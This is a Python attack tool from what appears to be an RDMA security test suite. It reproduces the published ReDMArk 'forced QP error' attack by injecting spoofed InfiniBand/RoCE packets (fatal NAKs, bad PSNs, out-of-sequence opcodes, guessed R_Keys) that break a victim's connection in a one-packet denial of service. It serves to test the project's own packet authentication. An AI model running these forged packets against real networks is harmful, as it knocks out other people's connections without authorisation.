"""Forced QP error (ReDMArk, USENIX Security 2021): one packet that breaks a connection.

An RNIC that follows the IBA moves an RC QP to the error state on a fatal NAK (remote access, invalid
request, remote operational error) or on a request it must refuse as invalid (an opcode out of sequence, an
RDMA WRITE with a bad R_Key); ReDMArk injected such packets into a victim's connection, with its QPN and
PSN guessed or sniffed, and the connection was gone: a one-packet DoS. This tool sends them into a
connection to ``--dst-gid`` (claiming its peer's GID), cycling through ``--kind``s. Our agents check a
packet's PSN, mode and MAC before anything else, drop what fails and count it, and never change a QP's
state for an unauthenticated packet (docs/security.md); with security off (mode 0) a forged packet is
valid, so the test shows what it costs there.
"""

from __future__ import annotations

import argparse
import os
from collections.abc import Callable

from ibsec.builder import Builder, gid_bytes

from .common import RawSocket, blast, checked, gid_text, parser, report, run
from .forge import complete, connection_options
from .forging import forged

PSN_MASK = (1 << 24) - 1
NAKS = {"nak-invalid": 0x61, "nak-access": 0x62, "nak-operational": 0x63}  # AETH syndromes (IBA 9.7.5.2.1)
KINDS = (*NAKS, "bad-psn", "bad-opcode", "bad-rkey")


def packet(builder: Builder, args: argparse.Namespace, kind: str) -> bytes:
    """One forged packet of ``kind`` into the connection the arguments name."""
    send: Callable[..., bytes] = lambda opcode, psn, payload, **ext: forged(  # noqa: E731
        builder, args.mode, args.dst_gid, opcode, args.pkey, args.qpn, psn & PSN_MASK, payload, **ext)
    if kind in NAKS:
        return send("RC_ACKNOWLEDGE", args.psn, b"", aeth=(NAKS[kind], 0))
    if kind == "bad-psn":  # half the PSN space away: neither the next PSN nor a duplicate
        return send("RC_SEND_ONLY", args.psn + (1 << 23), b"qp-error", ackreq=True)
    if kind == "bad-opcode":  # the middle of a message that never began
        return send("RC_SEND_MIDDLE", args.psn, b"qp-error" * 32)
    rkey = int.from_bytes(os.urandom(4), "big")  # bad-rkey: a guessed R_Key
    return send("RC_RDMA_WRITE_ONLY", args.psn, b"qp-error", ackreq=True, reth=(1 << 32, rkey, 8))


def main(argv: list[str] | None = None) -> int:
    p = parser(__doc__.splitlines()[0])
    p.set_defaults(count=len(KINDS))
    connection_options(p)
    p.add_argument("--kind", action="append", choices=KINDS, help="packet kinds to cycle (default: all)")
    args = checked(p.parse_args(argv))
    sock = RawSocket(args.iface)
    complete(args, sock, "qp_error", ("src_gid", "pkey", "qpn", "psn"))
    kinds = args.kind or list(KINDS)
    builder = Builder(sock.mac, gid_bytes(gid_text(args.src_gid)))
    summary = blast(sock, lambda i: packet(builder, args, kinds[i % len(kinds)]), args)
    report({"attack": "qp_error", "qpn": args.qpn, "psn": args.psn, "mode": args.mode, "kinds": kinds,
            **summary})
    sock.close()
    return 0


if __name__ == "__main__":
    run(main)
